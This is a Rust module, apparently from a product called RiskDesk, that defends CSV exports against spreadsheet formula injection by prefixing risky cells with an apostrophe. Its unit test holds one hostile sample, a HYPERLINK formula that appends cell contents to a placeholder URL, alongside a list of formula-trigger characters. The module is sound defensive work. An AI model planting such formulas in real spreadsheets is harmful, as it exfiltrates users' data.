//! CSV written for spreadsheets, safely.
//!
//! A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
//! Excel, LibreOffice and Google Sheets ("CSV injection"). As OWASP recommends, such a cell
//! is written with a leading apostrophe, which spreadsheets show as text; every RiskDesk
//! import removes that apostrophe again, so an export imports back to the original text.

use crate::{Error, Result};

const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is safe to write.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(TRIGGERS) || is_neutralised(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn is_neutralised(cell: &str) -> bool {
    cell.strip_prefix('\'')
        .is_some_and(|rest| rest.starts_with(TRIGGERS) || is_neutralised(rest))
}

/// The original text of a cell written by [`neutralise`].
pub fn restore(cell: &str) -> &str {
    if is_neutralised(cell) {
        &cell[1..]
    } else {
        cell
    }
}

/// A row that cannot be read, in words: with an unclosed quote the reader takes the rest
/// of the file as one field, so the row it reports (where the quote opened) is short.
pub fn describe_row_error(e: &csv::Error) -> String {
    match e.kind() {
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } if len < expected_len => format!(
            "this row has {len} field(s) where the header has {expected_len}; if a quote (\") opens on this line and is never closed, close it"
        ),
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } => format!(
            "this row has {len} fields where the header has {expected_len}; quote cells that contain the separator (, or ;)"
        ),
        csv::ErrorKind::Utf8 { .. } => "this row is not UTF-8 text; save the file as CSV UTF-8".into(),
        _ => format!("cannot read this row: {e}"),
    }
}

/// Writes a header and rows, every cell neutralised.
pub fn write<S: AsRef<str>>(headers: &[&str], rows: &[Vec<S>]) -> Result<Vec<u8>> {
    let mut w = csv::Writer::from_writer(Vec::new());
    let err = |e: csv::Error| Error::Invalid(format!("cannot write the CSV: {e}"));
    w.write_record(headers).map_err(err)?;
    for r in rows {
        w.write_record(r.iter().map(|c| neutralise(c.as_ref()).into_owned()))
            .map_err(err)?;
    }
    w.into_inner()
        .map_err(|e| Error::Invalid(format!("cannot write the CSV: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_restored() {
        for cell in [
            "=HYPERLINK(\"http://x\"&A1;\"click\")",
            "@SUM(1+1)",
            "+886 2 1234 5678",
            "-5",
            "\tx",
            "\rx",
            "'=already",
            "''=twice",
            "'plain apostrophe",
            "plain",
            "",
        ] {
            let n = neutralise(cell);
            assert!(!n.starts_with(TRIGGERS), "{cell:?}");
            assert_eq!(restore(&n), cell, "{cell:?}");
        }
        assert_eq!(neutralise("=1+1"), "'=1+1");
        assert_eq!(neutralise("'plain apostrophe"), "'plain apostrophe");
    }
}
